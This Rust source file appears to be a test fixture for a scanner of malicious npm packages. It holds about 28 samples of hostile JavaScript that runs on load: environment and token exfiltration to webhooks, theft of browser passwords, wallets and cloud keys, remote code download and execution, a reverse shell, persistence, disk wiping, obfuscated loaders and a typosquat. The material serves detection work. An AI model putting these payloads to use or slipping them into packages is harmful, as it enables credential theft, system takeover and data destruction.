//! Packages of npm that harm as soon as they are loaded.

use crate::Package;

const PLAIN: &str = r#"{"name":"a","version":"1.0.0","main":"index.js"}"#;

pub(crate) const PACKAGES: &[Package] = &[
    (
        "what is loaded sends the environment to a mailbox",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
require('axios').post('https://discord.com/api/webhooks/123456789012/abcdefghij', { content: JSON.stringify(process.env) });
module.exports = {};
",
            ),
        ],
    ),
    (
        "it takes the sessions of a messenger",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const fs = require('fs');
const path = require('path');
const folder = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');
const found = [];
for (const name of fs.readdirSync(folder)) {
  const text = fs.readFileSync(path.join(folder, name), 'utf8');
  const hit = text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/);
  if (hit) found.push(hit[0]);
}
fetch('https://discord.com/api/webhooks/123456789012/abcdefghij', { method: 'POST', body: JSON.stringify({ content: found.join() }) });
",
            ),
        ],
    ),
    (
        "it takes the passwords of a browser",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const fs = require('fs');
const base = process.env.LOCALAPPDATA + '\\Google\\Chrome\\User Data\\Default\\Login Data';
fs.copyFileSync(base, process.env.TEMP + '\\l.db');
const data = fs.readFileSync(base);
require('https').request('https://collect.invalid/up', { method: 'POST' }).end(data);
",
            ),
        ],
    ),
    (
        "it takes wallets of extensions",
        &[
            ("package.json", PLAIN),
            ("lib/index.js", ""),
            (
                "index.js",
                r"
const fs = require('fs');
const home = require('os').homedir();
const wallet = home + '/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn';
for (const name of fs.readdirSync(wallet)) {
  fetch('http://198.51.100.7:1224/uploads', { method: 'POST', body: fs.readFileSync(wallet + '/' + name) });
}
",
            ),
        ],
    ),
    (
        "it takes the key of a wallet of Solana",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const fs = require('fs');
const key = fs.readFileSync(require('os').homedir() + '/.config/solana/id.json', 'utf8');
require('node-fetch')('https://api.telegram.org/bot123456789:AAabcdefghijk/sendMessage', { method: 'POST', body: key });
",
            ),
        ],
    ),
    (
        "it replaces the wallet in the clipboard",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const clipboard = require('clipboardy');
setInterval(() => {
  const text = clipboard.readSync();
  if (/^0x[0-9a-fA-F]{40}$/.test(text)) clipboard.writeSync('0x00000000000000000000000000000000deadbeef');
}, 500);
",
            ),
        ],
    ),
    (
        "it runs what a server answers",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
fetch('https://x.invalid/stage').then((answer) => answer.text()).then((code) => new Function('require', code)(require));
",
            ),
        ],
    ),
    (
        "it runs what a server answers with axios",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const axios = require('axios');
(async () => {
  const { data } = await axios.get('https://x.invalid/api/ipcheck');
  eval(data.cookie);
})();
",
            ),
        ],
    ),
    (
        "it runs code in base64",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                "new Function('require', atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))(require);",
            ),
        ],
    ),
    (
        "it runs code in numbers",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,105,100,39,41));",
            ),
        ],
    ),
    (
        "it runs code that is written backwards",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                "eval(\")'di'(cexe.)'ssecorp_dlihc'(eriuqer\".split('').reverse().join(''));",
            ),
        ],
    ),
    (
        "it runs code in hexadecimal digits",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                "eval(Buffer.from('7265717569726528276368696c645f70726f6365737327292e657865632827696427293b', 'hex').toString('utf8'));",
            ),
        ],
    ),
    (
        "it names modules in base64 and runs a command in base64",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const d = (text) => Buffer.from(text, 'base64').toString();
const run = require(d('Y2hpbGRfcHJvY2Vzcw=='))[d('ZXhlYw==')];
run(d('Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L2EgfCBzaA=='));
",
            ),
        ],
    ),
    (
        "it fetches and runs in one line when loaded",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                "require('child_process').exec('curl -fsSL http://198.51.100.7/a.sh | sh');",
            ),
        ],
    ),
    (
        "it encodes a script for PowerShell",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r#"
const { exec } = require('child_process');
exec('powershell -w hidden -c "iex ((New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a\'))"');
"#,
            ),
        ],
    ),
    (
        "it connects a shell to a stranger",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const net = require('net');
const cp = require('child_process');
const shell = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh');
const socket = net.connect(9001, 'c2.invalid');
socket.pipe(shell.stdin);
shell.stdout.pipe(socket);
",
            ),
        ],
    ),
    (
        "it runs the commands that a socket brings",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const socket = new WebSocket('wss://c2.invalid/');
socket.onmessage = (message) => require('child_process').exec(message.data, (error, out) => socket.send(out));
",
            ),
        ],
    ),
    (
        "it fetches a program, writes it and starts it",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const fs = require('fs');
const axios = require('axios');
const { spawn } = require('child_process');
axios.get('http://198.51.100.7/update.exe', { responseType: 'arraybuffer' }).then((answer) => {
  fs.writeFileSync(process.env.TEMP + '/update.exe', answer.data);
  spawn(process.env.TEMP + '/update.exe', [], { detached: true });
});
",
            ),
        ],
    ),
    (
        "it makes itself start with the machine",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r#"
const { exec } = require('child_process');
exec('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "node C:\\a.js" /f');
exec('schtasks /create /tn a /tr "node C:\\a.js" /sc onlogon');
"#,
            ),
        ],
    ),
    (
        "it adds its own key to those that may log in",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const fs = require('fs');
fs.appendFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA someone\n');
",
            ),
        ],
    ),
    (
        "it sends keys of the cloud that only the machine may have",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
(async () => {
  const role = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).text();
  const keys = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role)).text();
  await fetch('https://collect.invalid/', { method: 'POST', body: keys });
})();
",
            ),
        ],
    ),
    (
        "it sends who the machine is to a bare address",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const os = require('os');
const http = require('http');
const request = http.request({ host: '198.51.100.7', port: 8080, method: 'POST', path: '/r' });
request.end(JSON.stringify({ name: os.hostname(), net: os.networkInterfaces(), user: os.userInfo() }));
",
            ),
        ],
    ),
    (
        "a table of strings hides all names",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
var _0x1a2b = ['Y2hpbGRfcHJvY2Vzcw==', 'ZXhlYw==', 'Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L2F8c2g='];
function _0x3c4d(index) { return Buffer.from(_0x1a2b[index - 0x10], 'base64').toString('utf8'); }
require(_0x3c4d(0x10))[_0x3c4d(0x11)](_0x3c4d(0x12));
",
            ),
        ],
    ),
    (
        "the payload stands in a file that looks like data",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                "const fs = require('fs'); eval(fs.readFileSync(__dirname + '/data.txt', 'utf8')); ",
            ),
            (
                "data.txt",
                "fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) });",
            ),
        ],
    ),
    (
        "the wallet of a transaction is replaced",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const original = globalThis.fetch;
globalThis.fetch = async (url, options) => {
  original('https://collect.invalid/', { method: 'POST', body: JSON.stringify({ url, options, env: process.env }) });
  return original(url, options);
};
",
            ),
        ],
    ),
    (
        "a screen is sent away",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const screenshot = require('screenshot-desktop');
setInterval(() => screenshot().then((image) => fetch('https://collect.invalid/', { method: 'POST', body: image })), 5000);
",
            ),
        ],
    ),
    (
        "the whole disk is deleted",
        &[
            ("package.json", PLAIN),
            ("index.js", "require('child_process').exec('rm -rf --no-preserve-root /');"),
        ],
    ),
    (
        "a name that looks like another's with a payload",
        &[
            ("package.json", r#"{"name":"expres","version":"1.0.0","main":"index.js"}"#),
            (
                "index.js",
                r"
module.exports = require('express');
const hidden = Buffer.from('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQv', 'base64').toString();
fetch(hidden, { method: 'POST', body: JSON.stringify(process.env) });
",
            ),
        ],
    ),
];
